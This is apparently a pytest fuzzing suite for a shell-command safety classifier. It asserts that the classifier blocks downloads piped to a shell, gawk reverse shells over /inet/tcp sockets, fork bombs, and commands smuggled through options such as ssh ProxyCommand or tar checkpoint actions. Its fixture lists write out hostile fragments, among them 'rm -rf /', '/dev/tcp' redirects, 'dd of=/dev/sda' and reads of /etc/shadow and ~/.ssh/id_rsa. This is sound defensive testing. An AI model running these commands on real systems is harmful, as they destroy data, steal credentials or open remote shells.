"""sandbox_audit under fuzzing: the classifier never raises, never hides, stays linear.

Hypothesis builds commands from shell fragments chosen to collide (quotes,
substitution openers, heredoc headers, arithmetic, keywords, separators) plus
random text. Settings are deterministic (`derandomize=True`, no example
database), so a run is reproducible and CI never flakes on a new seed.

Adversarial shapes are classified (1 MB with the work budget, 128 KB without);
their timing and linearity (with units drawn from the same fragments by a
seeded RNG) are measured by `benchmarks.bench_sandbox_audit`, not asserted here.

Each property draws 400 commands in the long checks (`make test-slow`, which CI runs
too) and 100 in `make test`, the same ones every run (tests/depth.py).
Two long runs are marked `slow` and left out of the default run (`pytest -m slow`
runs them): 100,000 Hypothesis commands under a memory cap, and, where `atheris`
is installed (`pip install antler[fuzz]`), 100,000 coverage-guided inputs under
libFuzzer's RSS limit.
"""

from __future__ import annotations

import contextlib
import random
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from antler.plugins.sandbox_audit.classifier import Verdict, classify
from antler.plugins.sandbox_audit.interpreter_code import shell_commands
from antler.plugins.sandbox_audit.rules import RULES_BY_NAME, Action
from antler.plugins.sandbox_audit.splitter import Budget, Unauditable, split
from tests.depth import scaled

FRAGMENTS = [
    "$(", ")", "`", "\\`", "<(", ">(", "${", "}", "{", "(", "'", '"', "\\", "\n", " ", "\t",
    ";", ";;", "|", "|&", "&", "&&", "||", "<<", "<<-", "<<<", "EOF", "'EOF'", "\nEOF\n",
    "((", "))", "$((", "#", "$'", '$"', "=", "x=", "x=(", "$x", "$1", "2>&1", ">", "<", ">&",
    "curl u", "wget -qO- u", "sh", "bash -c ", "eval ", "source ", ". ", "python3 -c ",
    "base64 -d", "sudo ", "env ", "nohup ", "case x in ", "a) ", "esac", "for i in ", "do ",
    "done", "if ", "then ", "fi", "[[ ", " ]]", "function f ", "f() ", "rm -rf /", "*", "~",
    ":(){ :|:& };:", "/dev/tcp/h/1", "@(", "!", "\\\n",
]

fragments = st.sampled_from(FRAGMENTS)
noise = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=6)
commands = st.lists(st.one_of(fragments, fragments, noise), max_size=40).map("".join)

# 400 examples in the long checks (`make test-slow`), a quarter of them in `make test`.
fuzz = scaled(400, derandomize=True, database=None, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])


@fuzz
@given(commands)
def test_the_classifier_never_raises(command: str) -> None:
    for parser in ("auto", "tokenizer"):
        verdict = classify(command, parser=parser)  # type: ignore[arg-type]
        assert verdict.rule in RULES_BY_NAME
        assert verdict.action is RULES_BY_NAME[verdict.rule].action
        assert verdict.rule != "audit_failed", verdict.as_dict()


@fuzz
@given(commands)
def test_the_tokenizer_raises_nothing_but_unauditable(command: str) -> None:
    with contextlib.suppress(Unauditable):
        split(command)


@fuzz
@given(commands)
def test_nothing_after_a_blocked_statement_can_unblock_it(command: str) -> None:
    # The tokenizer reads left to right: no suffix can reach back into a complete line.
    assert classify("$(curl -s u)\n" + command).blocked
    assert classify("curl -s u | sh\n" + command).blocked


@fuzz
@given(st.text(max_size=200))
def test_arbitrary_text_is_classified(command: str) -> None:
    assert classify(command).action in (Action.BLOCK, Action.WARN, Action.PASS)


# Interpreter code: the literals it hands to a shell are audited as nested shell code.
CODE_FRAGMENTS = [
    "os.system(", "subprocess.run([", "execSync(", "spawn(", "system ", "%x(", "qx{", "q(",
    "s/", "`", '"', "'", '"""', "\\", "{", "}", "${", "#{", "(", ")", "[", "]", ",", "+", ".",
    "..", ";", "\n", " ", "#", "//", "/*", "--", "[[", "f\"", "curl u | sh", "rm -rf /",
    '"sh", "-c", ', ".format(", "\\x41", "$x",
]
INTERPRETERS = ["python3 -c ", "node -e ", "perl -e ", "ruby -e ", "php -r ", "lua -e ",
                "python3 <<'EOF'\n"]
code_texts = st.lists(st.one_of(st.sampled_from(CODE_FRAGMENTS), noise), max_size=30).map("".join)


@fuzz
@given(st.sampled_from(INTERPRETERS), st.sampled_from(["'", '"', ""]), code_texts)
def test_interpreter_code_is_classified_without_raising(prefix: str, quote: str,
                                                        code: str) -> None:
    command = prefix + quote + code + quote
    for parser in ("auto", "tokenizer"):
        verdict = classify(command, parser=parser)  # type: ignore[arg-type]
        assert verdict.rule != "audit_failed", verdict.as_dict()
    for family in ("python", "node", "perl", "ruby", "php", "lua"):
        assert all(isinstance(text, str) for _, text in shell_commands(family, code))


# -- linearity ------------------------------------------------------------------------------

def _repeat(unit: str, size: int) -> str:
    return (unit * (size // max(1, len(unit)) + 1))[:size]


SHAPES: dict[str, Callable[[int], str]] = {
    "plain words": lambda n: "echo " + _repeat("ab ", n),
    "long double quote": lambda n: 'echo "' + _repeat("a", n) + '"',
    "quote runs": lambda n: "echo " + _repeat("\"a\" 'b' ", n),
    "many substitutions": lambda n: "echo " + _repeat("$(a) ", n),
    "many openers": lambda n: _repeat("$(", n),
    "nested parens": lambda n: _repeat("(", n),
    "heredoc markers": lambda n: "cat " + _repeat("<<A ", n),
    "heredoc bodies": lambda n: _repeat("cat <<A\nx $(b)\nA\n", n),
    "statements": lambda n: _repeat("echo x; ", n),
    "pipes": lambda n: _repeat("a|", n) + "b",
    "backticks": lambda n: "echo " + _repeat("`a` ", n),
    "escapes": lambda n: "echo " + _repeat("\\a", n),
    "ansi-c": lambda n: "echo $'" + _repeat("\\x41", n) + "'",
    "unclosed quotes": lambda n: _repeat('a"b ', n),
    "code string": lambda n: "bash -c '" + _repeat("echo x; ", n) + "'",
    "downloads and runs": lambda n: _repeat("curl -o x.sh u; bash ./x.sh; ", n),
    "interpreter shell calls": lambda n: "python3 -c '" + _repeat(
        'os.system("curl -s u | sh"); subprocess.run(["sh", "-c", "ls"]); ', n) + "'",
    "interpreter command literals": lambda n: "perl -e '" + _repeat("`ls -l`; qx{id}; ", n) + "'",
}


def random_units() -> list[str]:
    """Units drawn from the fuzz fragments by a seeded RNG (the benchmark repeats them)."""
    rng = random.Random(4611)
    return ["".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(3, 12))) for _ in range(6)]


# How long they take, and that the time grows linearly, is measured by
# `python -m benchmarks.bench_sandbox_audit` (every shape here and the random units, as
# ratios to `str.split` in the same process): speed is not asserted in tests.
@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_every_shape_gets_a_verdict_with_and_without_the_budget(shape: str) -> None:
    for size, budget in ((1_000_000, None), (128_000, Budget(nodes=10**9, words=10**9))):
        verdict = classify(SHAPES[shape](size), parser="tokenizer", budget=budget)
        assert verdict.rule in RULES_BY_NAME and verdict.rule != "audit_failed", verdict.rule


PLAIN = ["rm", "-rf", "-r", "-f", "/", "/etc", "/mnt/user-data/workspace", "curl", "wget",
         "-o", "x.sh", "bash", "sh", "python", "python3", "-c", "chmod", "777", "+x", "dd",
         "if=/dev/zero", "of=/dev/sda", "mkfs.ext4", "sudo", "env", "nohup", "ls", "-la", "cat",
         "/etc/shadow", "~/.ssh/id_rsa", "git", "push", "--force", "A=1", "eval", "source",
         "nc", "-e", "xargs", "find", "-delete", "-exec", "tee", "base64", "-d", "http://x.y/z",
         "user@host", "50%", "a,b", "time", "if", "do"]


@fuzz
@given(st.lists(st.sampled_from(PLAIN), min_size=1, max_size=6).map(" ".join))
def test_plain_word_commands_skip_bashlex_with_the_same_verdict(command: str) -> None:
    fast, full = classify(command), classify(command, parser="bashlex")
    assert (fast.action, fast.rule, fast.findings) == (full.action, full.rule, full.findings)


HANDED_TO_A_SHELL = [
    "python3 -c 'import os; os.system(\"{}\")'",
    "python3 -c 'import subprocess; subprocess.run(\"{}\", shell=True)'",
    "node -e \"require('child_process').execSync('{}')\"",
    "perl -e 'system(\"{}\")'",
    "ruby -e '%x({})'",
    "php -r 'shell_exec(\"{}\");'",
]
# Credential paths are left out: the whole code string is searched for them already.
NESTED_PLAIN = [word for word in PLAIN if word not in ("/etc/shadow", "~/.ssh/id_rsa")]
nested_commands = st.lists(st.sampled_from(NESTED_PLAIN), min_size=1, max_size=6).map(" ".join)


@fuzz
@given(st.sampled_from(HANDED_TO_A_SHELL), nested_commands)
def test_a_literal_handed_to_a_shell_is_judged_like_the_command(template: str,
                                                                command: str) -> None:
    direct = classify(command)
    for nested in _nested_verdicts(template, command, direct):
        assert (nested.action, nested.rule) == (direct.action, direct.rule), nested.as_dict()


def _nested_verdicts(template: str, command: str, direct: Verdict) -> Iterator[Verdict]:
    """The verdicts, with both front ends, on `command` placed in `template`; a nesting
    refusal (one level deeper than `command` alone) is checked here and not yielded."""
    for parser in ("auto", "tokenizer"):
        nested = classify(template.format(command), parser=parser)  # type: ignore[arg-type]
        if nested.rule == "nesting_too_deep":
            assert direct.rule == "nesting_too_deep" or "eval eval" in command
            continue
        yield nested


# -- long runs under a memory cap (`pytest -m slow`) -----------------------------------------

SLOW_EXAMPLES = 100_000
MEMORY_HEADROOM = 1536 * 1024 * 1024
"""Address space the process may grow by while the long fuzz runs (the parser worker has
its own, smaller cap)."""


@contextlib.contextmanager
def _memory_capped() -> Iterator[None]:
    """Lower the soft address-space limit to what the process uses now plus a headroom, so
    a blow-up fails the run with MemoryError instead of exhausting the machine."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    with open("/proc/self/statm") as statm:
        used = int(statm.read().split()[0]) * resource.getpagesize()
    cap = used + MEMORY_HEADROOM
    resource.setrlimit(resource.RLIMIT_AS, (cap if hard < 0 else min(cap, hard), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


@pytest.mark.slow
def test_a_hundred_thousand_commands_under_a_memory_cap() -> None:
    seen = {"count": 0}

    @settings(derandomize=True, database=None, deadline=None, max_examples=SLOW_EXAMPLES,
              suppress_health_check=list(HealthCheck))
    @given(st.one_of(commands, code_texts.map(lambda c: "python3 -c '" + c + "'"),
                     st.text(max_size=120)))
    def check(command: str) -> None:
        seen["count"] += 1
        verdict = classify(command)
        assert verdict.rule in RULES_BY_NAME and verdict.rule != "audit_failed", \
            verdict.as_dict()

    with _memory_capped():
        check()
    assert seen["count"] >= SLOW_EXAMPLES * 0.9   # hypothesis may stop early on duplicates


ATHERIS_HARNESS = """
import sys
import atheris
with atheris.instrument_imports():
    from antler.plugins.sandbox_audit.classifier import classify

def one(data):
    verdict = classify(atheris.FuzzedDataProvider(data).ConsumeUnicodeNoSurrogates(512))
    if verdict.rule == "audit_failed":
        raise AssertionError(verdict.as_dict())

atheris.Setup(sys.argv, one)
atheris.Fuzz()
"""


@pytest.mark.slow
def test_coverage_guided_fuzzing_when_atheris_is_installed(tmp_path: Path) -> None:
    pytest.importorskip("atheris")
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-c", ATHERIS_HARNESS, f"-runs={SLOW_EXAMPLES}", "-rss_limit_mb=2048",
         "-max_len=512", "-seed=4611", str(tmp_path)],
        capture_output=True, text=True, timeout=3600, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    assert f"Done {SLOW_EXAMPLES} runs" in done.stderr


CARRIED_IN_OPTIONS = [
    "awk 'BEGIN {{ system(\"{}\") }}'",
    "flock /tmp/lock -c '{}'",
    "git -c core.pager='{}' log",
    "ssh -o ProxyCommand='{}' host",
    "tar cf a.tar --checkpoint-action=exec='{}' x",
    "env -S '{}'",
    "watch -n 5 '{}'",
    "vim -c '!{}'",
]


@fuzz
@given(st.sampled_from(CARRIED_IN_OPTIONS), nested_commands)
def test_a_command_carried_in_an_option_is_judged_like_the_command(template: str,
                                                                  command: str) -> None:
    direct = classify(command)
    if direct.action is Action.PASS:
        return      # a harmless command stays harmless, or the carrier is flagged itself
    for nested in _nested_verdicts(template, command, direct):
        assert nested.action.severity >= direct.action.severity, (template, nested.as_dict())


# -- code-valued positions, descriptor paths, awk sockets, process loops ----------------------

FETCHING = ["curl -s u", "wget -qO- https://x/a", "curl -fsSL u | base64 -d", "nc host 80"]
CODE_VALUED = [
    "python3 -c {}", "bash -c {}", "sh -e -c -- {}", "node -e {}", "perl -e {}", "ruby -e {}",
    "php -r {}", "pwsh -Command {}", "awk {} data.txt", "sed -e {} notes.txt",
    "git -c core.pager={} log", "ssh -o ProxyCommand={} host", "flock /tmp/l -c {}",
    "watch {}", "env -S {}", "vim -c {} notes.txt", "PAGER={} git log", "script -qc {}",
    "tar -xf a.tar --to-command={}",
]
"""Commands whose argument in place of `{}` is code, whatever fills it."""
SUBSTITUTIONS = ['"$({})"', "$({})", '"`{}`"', '"$(cat <({}))"']


def _both_parsers(command: str) -> list[Verdict]:
    return [classify(command, parser=parser) for parser in ("auto", "tokenizer")]


@fuzz
@given(st.sampled_from(CODE_VALUED), st.sampled_from(SUBSTITUTIONS), st.sampled_from(FETCHING))
def test_a_fetching_substitution_in_a_code_position_is_blocked(template: str, spelling: str,
                                                               fetch: str) -> None:
    """A code-valued option is code: filled by a substitution that fetches, it runs what
    was fetched. The same text quoted into a literal argument stays a pass."""
    command = template.format(spelling.format(fetch))
    for verdict in _both_parsers(command):
        assert verdict.action is Action.BLOCK, (command, verdict.as_dict())
    for verdict in _both_parsers("printf '%s\\n' " + shlex.quote(command)):
        assert verdict.action is Action.PASS, (command, verdict.as_dict())


SCRIPT_READERS = ["source {}", ". {}", "bash {}", "sh -x {}", "python3 {}", "perl {}",
                  "node {}", "bash --rcfile {}", "awk -f {} data.txt", "sed -f {} notes.txt"]
DESCRIPTOR_PATHS = ["<({})", "/dev/fd/3 3< <({})", "/dev/stdin < <({})",
                    "/proc/self/fd/0 < <({})"]


@fuzz
@given(st.sampled_from(SCRIPT_READERS), st.sampled_from(DESCRIPTOR_PATHS),
       st.sampled_from(FETCHING), st.booleans())
def test_a_descriptor_of_a_fetching_process_substitution_is_not_run(
        template: str, path: str, fetch: str, opened_by_exec: bool) -> None:
    """A /dev/fd path from a process substitution is the substitution's output, whether the
    command opens it or an earlier `exec` did; local content stays allowed."""
    if opened_by_exec:
        command = f"exec 3< <({fetch}); " + template.format("/dev/fd/3")
    else:
        command = template.format(path.format(fetch))
    for verdict in _both_parsers(command):
        assert verdict.action is Action.BLOCK, (command, verdict.as_dict())
    local = command.replace(fetch, "cat local.txt")
    for verdict in _both_parsers(local):
        assert verdict.action is not Action.BLOCK, (local, verdict.as_dict())


SOCKETS = ['"/inet/tcp/0/10.0.0.1/4444"', '"/inet4/tcp/4444/0/0"', '"/inet6/udp/0/h/53"',
           '"/inet/" "tcp/0/h/1"']
RUNS_A_COMMAND = ["system(c)", "while ((c |& getline l) > 0) print l |& s",
                  "while ((c | getline l) > 0) print l |& s", "{ cmd = c; cmd |& getline }"]


@fuzz
@given(st.sampled_from(["awk", "gawk"]), st.sampled_from(SOCKETS),
       st.sampled_from(RUNS_A_COMMAND))
def test_an_awk_program_on_a_socket_that_runs_commands_is_a_reverse_shell(
        awk: str, socket: str, runner: str) -> None:
    program = f"BEGIN {{ s = {socket}; while ((s |& getline c) > 0) {runner} }}"
    for verdict in _both_parsers(f"{awk} '{program}'"):
        assert (verdict.action, verdict.rule) == (Action.BLOCK, "reverse_shell"), program
    echo = f"BEGIN {{ s = {socket}; while ((s |& getline c) > 0) print c |& s }}"
    for verdict in _both_parsers(f"{awk} '{echo}'"):
        assert verdict.action is Action.PASS, echo        # a socket alone runs nothing
    for verdict in _both_parsers(f"{awk} '{echo}' | sh"):
        assert verdict.action is Action.BLOCK, echo       # ... but its output is fetched


UNBOUNDED_LOOPS = ["while true", "while :", "while [ 1 ]", "while [[ 1 ]]", "while ((1))",
                   "while test 1", "until false", "until [ 1 = 0 ]", "while sleep 0",
                   "while command true", "for ((;;))", "for i in {1..100000}",
                   "for i in $(seq 100000)", "for ((i = 0; i < 100000; i++))"]
BOUNDED_LOOPS = ["for i in {1..8}", "for i in $(seq 8)", "for ((i = 0; i < 8; i++))",
                 "while [ 1 = 0 ]", "until true", "for f in *.txt", "while read -r f"]
BACKGROUND_STARTS = ["sh &", "bash -c 'sleep 9' &", "{ ./a.sh & };", "(sh &);", "nohup sh &",
                     "bash -c '$0 &';", "eval 'sh &';", "sh & sh &"]


@fuzz
@given(st.sampled_from(UNBOUNDED_LOOPS), st.sampled_from(BOUNDED_LOOPS),
       st.sampled_from(BACKGROUND_STARTS))
def test_a_loop_that_starts_processes_without_bound_is_a_fork_bomb(
        unbounded: str, bounded: str, start: str) -> None:
    for verdict in _both_parsers(f"{unbounded}; do {start} done"):
        assert verdict.rule == "fork_bomb", (unbounded, start, verdict.as_dict())
    for command in (f"{unbounded}; do {start} wait; done", f"{bounded}; do {start} done"):
        for verdict in _both_parsers(command):
            assert verdict.rule != "fork_bomb", (command, verdict.as_dict())
